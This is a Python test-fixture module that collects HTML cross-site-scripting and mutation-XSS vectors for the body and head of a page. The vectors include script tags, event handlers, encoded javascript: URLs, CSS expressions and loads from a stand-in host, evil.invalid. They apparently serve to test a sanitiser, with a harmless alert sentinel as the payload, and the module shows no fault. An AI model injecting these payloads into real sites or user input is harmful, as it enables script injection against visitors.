"""Markup that would run a script or send something, had it come through; written for these tests.

`RUN` sets a sentinel in the window that it runs in and opens a dialog; `AWAY` is an address that nothing may ask for.
"""

__all__ = ["AWAY", "INERT", "METADATA_VECTORS", "RUN", "VECTORS", "page_with"]

RUN = "top.__hit=1;window.__hit=1;alert(1)"
AWAY = "http://evil.invalid/x"
_ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:")
_HEX = "".join(f"&#x{ord(letter):x}" for letter in "javascript:")

VECTORS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src='{AWAY}'></script>",
    "script in odd letter case": f"<ScRiPt >{RUN}</sCrIpT >",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script nested in itself": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "unclosed script": f"<script>{RUN}//",
    "onerror of an image": f'<img src=x onerror="{RUN}">',
    "onerror behind a slash": f"<img/src='x'/onerror={RUN}>",
    "onerror behind control characters": f"<img src=x\x0conerror={RUN}>",
    "attribute breaks out": f'<img alt="a&quot; onerror=&quot;{RUN}" src=x title=\'" onerror="{RUN}\'>',
    "backtick": f"<img src=`x`onerror={RUN}>",
    "svg onload": f"<svg onload={RUN}></svg>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}" />'
    "<text x=9 y=9>click</text></a></svg>",
    "svg use of data": f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'"
    f" onload='{RUN}'/>#x\"></svg>",
    "svg foreignObject": f"<svg><foreignObject><p>Text <img src=x onerror={RUN}></p></foreignObject></svg>",
    "svg style with a comment": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mathml href": f'<math href="javascript:{RUN}">CLICK</math>',
    "mathml xlink": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">CLICK</maction></math>',
    "mathml style mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "nested forms mutation": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={RUN}></style></mglyph></form></mtext></math>",
    "noscript mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><img src=x onerror={RUN}></template>",
    "declarative shadow root": f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    "noembed": f"<noembed><img title='</noembed><img src=x onerror={RUN}>'></noembed>",
    "noframes": f"<noframes><img title='</noframes><img src=x onerror={RUN}>'></noframes>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "textarea breaks out": f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    "title in the body": f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
    "plaintext": f"<div><plaintext><img src=x onerror={RUN}>",
    "comment breaks out": f"<!--><img src=x onerror={RUN}>--> <!--!><img src=x onerror={RUN}>-->",
    "cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "style breaks out": f"<style>p{{}}</style><style><!--</style><script>{RUN}</script>--></style>",
    "style import": f'<style>@import "{AWAY}";@import url({AWAY});</style>',
    "style import in escapes": f'<style>@\\69mport "{AWAY}";</style>',
    "style expression": f'<style>p{{width:expression({RUN})}}</style><p style="width:exp/**/ression({RUN})">Text</p>',
    "style address": f"<p style=\"background:url('{AWAY}')\">Text</p><style>p{{background:url({AWAY})}}</style>",
    "style binding": f'<p style="-moz-binding:url({AWAY}#x);behavior:url({AWAY})">Text</p>',
    "javascript address": f'<a href="javascript:{RUN}">click</a>',
    "javascript address in odd case": f'<a href="JaVaScRiPt:{RUN}">click</a>',
    "javascript address in entities": f'<a href="{_ENTITIES}{RUN}">click</a>',
    "javascript address in hex": f'<a href="{_HEX}{RUN}">click</a>',
    "javascript address with a tab": f'<a href="java&#9;script:{RUN}">click</a><a href="java\nscript:{RUN}">click</a>',
    "javascript address behind controls": f'<a href="\x01\x0e javascript:{RUN}">click</a>',
    "javascript address in named entities": f'<a href="javascript&colon;{RUN}">click</a>',
    "vbscript address": '<a href="vbscript:msgbox(1)">click</a>',
    "data address": f'<a href="data:text/html,<script>{RUN}</script>">click</a>',
    "javascript image": f'<img src="javascript:{RUN}">',
    "svg image": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">'
    f'<meta http-equiv=refresh content="0;{AWAY}">',
    "base": f'<base href="javascript:{RUN}//"><a href="x">click</a>',
    "base elsewhere": f'<base href="{AWAY}/" target="_top">',
    "object": f'<object data="javascript:{RUN}"></object>'
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": f'<embed src="javascript:{RUN}"><embed code="{AWAY}">',
    "applet": f'<applet code="x" archive="{AWAY}"></applet>',
    "iframe": f'<iframe src="javascript:{RUN}"></iframe><iframe src="{AWAY}"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frameset": f'<frameset onload="{RUN}"><frame src="javascript:{RUN}"></frameset>',
    "form action": f'<form action="javascript:{RUN}"><button>send</button><input type=submit autofocus></form>',
    "form elsewhere": f'<form id=f action="{AWAY}"></form><button form=f formaction="javascript:{RUN}">send</button>',
    "isindex": f'<isindex action="javascript:{RUN}" type=image>',
    "autofocus": f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}></select>",
    "details toggle": f"<details open ontoggle={RUN}><summary>Text</summary>more</details>",
    "video": f"<video><source onerror={RUN}></video><video poster=javascript:{RUN}></video><audio src=x onerror={RUN}>",
    "marquee": f"<marquee onstart={RUN}>Text</marquee>",
    "body onload": f"<body onload={RUN}><body onpageshow={RUN}>",
    "link": f'<link rel=stylesheet href="{AWAY}"><link rel=import href="{AWAY}"><link rel=prefetch href="{AWAY}">',
    "image set": f'<img srcset="{AWAY} 1x"><picture><source srcset="{AWAY}"></picture><img src="{AWAY}">',
    "image set in data": "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "background": "<table background=javascript:alert(1)><td background='java\nscript:alert(1)'>a</table>",
    "xlink": "<a xlink:href=javascript:alert(1)>a</a>",
    "script in a list": f"<select><option><script>{RUN}</script></select>",
    "style binding in escapes": "<p style='beh\\61vior: url(x)'>a</p><style>p{-moz-b\\69nding:url(x)}</style>",
    "ping": f'<a href="/x" ping="{AWAY}">click</a>',
    "animated handler": f"<p style='animation:x' onanimationstart={RUN} onwebkittransitionend={RUN}>Text</p>",
    "clobbering": "<form name=querySelectorAll><input name=closest id=closest></form><img name=getElementById>",
    "custom element": f"<x-foo onclick={RUN} style='x:expression({RUN})' tabindex=1 onfocus={RUN} autofocus>Text"
    "</x-foo>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{RUN}'?><?x <img src=x onerror={RUN}>?>",
    "unclosed attribute": f'<a href="x<img src=x onerror={RUN}>',
    "block forged": f"<bf-block data-block=0 data-verdict=kept onclick={RUN}>Text</bf-block>",
}
"""Markup for the body of a page, by what it tries."""

INERT = {
    *("script nested in itself", "attribute breaks out", "backtick", "plaintext", "frameset", "processing instruction"),
    "unclosed attribute",
}
"""Vectors that an HTML5 parser finds nothing active in as they stand: they are for other parsers and for sanitisers."""

METADATA_VECTORS: dict[str, str] = {
    "title": f"<title>&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;</title>",
    "author": f"<title>T</title><meta name=author content='&lt;img src=x onerror={RUN}&gt;'>",
    "site": f"<title>T</title><meta property=og:site_name content='&quot;&gt;&lt;svg onload={RUN}&gt;'>",
    "date": f"<title>T</title><meta property=article:published_time content='2024-01-01&quot; onclick=&quot;{RUN}'>",
    "language": f"<title>T</title><meta http-equiv=content-language content='de\"><script>{RUN}</script>'>",
    "linked data": '<title>T</title><script type="application/ld+json">{"@type":"NewsArticle","headline":'
    f'"<img src=x onerror={RUN}>","author":{{"@type":"Person","name":"</script><script>{RUN}</script>"}}}}</script>',
    "canonical": f'<title>T</title><link rel=canonical href="javascript:{RUN}">',
}
"""Markup for the head of a page, by the field that it is for."""

_PROSE = (
    "<p>The council of the harbour town has decided to keep the ferry, which leaves at nine in the morning and comes "
    "back before dark, as the people on both sides of the water had asked for in a long letter.</p>"
)


def page_with(body: str = "", head: str = "<title>The ferry stays</title>") -> str:
    """Return a page with an article around some markup."""
    nav = "<nav><a href='/'>Home</a> <a href='/news'>News</a></nav>"
    return (
        f"<!DOCTYPE html><html><head>{head}</head><body>{nav}<article><h1>The ferry stays</h1>{_PROSE}{_PROSE}"
        f"<div>{body}</div>{_PROSE}</article></body></html>"
    )
